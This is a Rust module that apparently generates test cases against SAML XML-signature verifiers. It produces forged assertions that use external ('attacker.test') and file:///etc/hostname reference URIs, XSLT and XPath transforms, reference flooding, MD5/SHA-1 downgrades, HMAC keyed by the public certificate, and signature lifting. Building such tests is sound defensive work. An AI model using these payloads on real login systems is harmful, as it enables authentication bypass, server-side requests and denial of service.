//! Signatures that refer to something else, transform it, or use methods that prove nothing.

use super::{Attack, assertion, part, signature};
use crate::replace_once;
use crate::sign::{ENVELOPED, EXCLUSIVE, Signing, reseal, seal_by_hmac, transform};

const REFERENCE: &str = "<ds:Reference URI=\"#id23073497561563902035180823\">";
const URI: &str = "URI=\"#id23073497561563902035180823\"";

pub(super) fn all() -> Vec<Attack> {
    [references(), transforms(), algorithms()].into_iter().flatten().collect()
}

fn references() -> Vec<Attack> {
    let uri = |name, uri: &'static str, why| {
        Attack::new("reference_uri", name, why)
            .only_assertion()
            .then(move |xml| reseal(&replace_once(xml, URI, uri)?, "rsa"))
    };
    let repeated = |xml: &str, times: usize| {
        let reference = part(xml, REFERENCE, "</ds:Reference>")?;
        reseal(&xml.replace(reference, &reference.repeat(times)), "rsa")
    };
    vec![
        uri("empty", "URI=\"\"", "An empty reference means the whole document, wherever the signature stands."),
        uri("absent", "Type=\"x\"", "Without a URI the application decides what is signed."),
        uri(
            "external",
            "URI=\"http://attacker.test/anything\"",
            "A verifier that fetches references can be sent anywhere before it knows who asks.",
        ),
        uri("file", "URI=\"file:///etc/hostname\"", "The same with a file."),
        uri(
            "xpointer",
            "URI=\"#xpointer(id('id23073497561563902035180823'))\"",
            "An XPointer is a language of its own, and keeps comments.",
        ),
        uri("xpointer_root", "URI=\"#xpointer(/)\"", "The whole document by an XPointer."),
        uri(
            "response_instead",
            "URI=\"#id23073497561478311268137204\"",
            "The assertion's signature means the response.",
        ),
        Attack::new("reference_count", "none", "A signature of nothing at all is easily valid.")
            .only_assertion()
            .then(move |xml| repeated(xml, 0)),
        Attack::new("reference_count", "two", "Two references: the first is checked, the second used.")
            .only_assertion()
            .then(move |xml| repeated(xml, 2)),
        Attack::new(
            "reference_count",
            "two_hundred",
            "Each reference costs a canonicalisation before anybody is authenticated.",
        )
        .only_assertion()
        .then(move |xml| repeated(xml, 200)),
    ]
}

fn transforms() -> Vec<Attack> {
    let by = |name, why, transforms: String| {
        Attack::new("transform", name, why).signing(Signing::usual().transforms(transforms))
    };
    let added = |name, why, transform: &'static str| {
        Attack::new("transform", name, why).only_assertion().then(move |xml| {
            reseal(&replace_once(xml, "</ds:Transforms>", &format!("{transform}</ds:Transforms>"))?, "rsa")
        })
    };
    let xpath = "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>\
                 not(ancestor-or-self::*[local-name()='AttributeStatement'])</ds:XPath></ds:Transform>";
    vec![
        by(
            "xpath",
            "An XPath can leave out of the digest what the attacker writes.",
            transform(ENVELOPED) + xpath + &transform(EXCLUSIVE),
        ),
        added(
            "xslt",
            "A style sheet is a program.",
            "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"></ds:Transform>",
        ),
        added(
            "xpath_filter_2",
            "The second XPath language.",
            "<ds:Transform Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\"></ds:Transform>",
        ),
        added(
            "base64",
            "A transform that reads the text only.",
            "<ds:Transform Algorithm=\"http://www.w3.org/2000/09/xmldsig#base64\"></ds:Transform>",
        ),
        added(
            "third",
            "Canonicalised twice, after which other canonicalisers may differ.",
            "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"></ds:Transform>",
        ),
        by(
            "inclusive_c14n",
            "Inclusive canonicalisation takes in what surrounds the signed element.",
            transform(ENVELOPED) + &transform("http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
        ),
        by("enveloped_only", "Without a canonicalisation the inclusive one is implied.", transform(ENVELOPED)),
    ]
}

fn algorithms() -> Vec<Attack> {
    let signed = |check, name, why, signing| Attack::new(check, name, why).signing(signing);
    let sha1 = "http://www.w3.org/2000/09/xmldsig#sha1";
    let md5 = "http://www.w3.org/2001/04/xmldsig-more#md5";
    let mut rsa_sha1 = Signing::okta();
    rsa_sha1.method = "http://www.w3.org/2000/09/xmldsig#rsa-sha1".into();
    let renamed = |name, algorithm: &'static str, why| {
        Attack::new("signature_algorithm", name, why).only_assertion().then(move |xml| {
            reseal(&replace_once(xml, "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", algorithm)?, "rsa")
        })
    };
    vec![
        signed("signature_algorithm", "rsa_sha1", "SHA-1 collides.", rsa_sha1),
        renamed("rsa_md5", "http://www.w3.org/2001/04/xmldsig-more#rsa-md5", "MD5 collides."),
        renamed("dsa_sha1", "http://www.w3.org/2000/09/xmldsig#dsa-sha1", "A method that nobody uses any more."),
        renamed("unknown", "urn:example:none", "A method that nobody knows."),
        Attack::new(
            "signature_algorithm",
            "hmac_by_certificate",
            "The key of an HMAC would be the public certificate, which everybody has.",
        )
        .only_assertion()
        .then(|xml| seal_by_hmac(&replace_once(xml, "#rsa-sha256", "#hmac-sha256")?, "rsa")),
        signed("digest_algorithm", "sha1", "SHA-1 collides.", Signing::okta().digest(sha1)),
        Attack::new("digest_algorithm", "md5", "MD5 collides.")
            .only_assertion()
            .then(move |xml| reseal(&replace_once(xml, "http://www.w3.org/2001/04/xmlenc#sha256", md5)?, "rsa")),
        signed(
            "canonicalization",
            "inclusive",
            "SignedInfo canonicalised inclusively takes in its surroundings.",
            Signing::usual().canonicalization("http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
        ),
        Attack::new("canonicalization", "unknown", "A canonicalisation that nobody knows.").only_assertion().then(
            |xml| {
                let method = format!("<ds:CanonicalizationMethod Algorithm=\"{EXCLUSIVE}\">");
                reseal(
                    &replace_once(xml, &method, "<ds:CanonicalizationMethod Algorithm=\"urn:example:none\">")?,
                    "rsa",
                )
            },
        ),
        Attack::new("reference_uri", "signature_lifted", "The assertion's signature stands on the response.")
            .only_assertion()
            .then(|xml| {
                let signature = signature(assertion(xml)?)?;
                replace_once(&xml.replace(signature, ""), "<saml2p:Status>", &format!("{signature}<saml2p:Status>"))
            }),
    ]
}
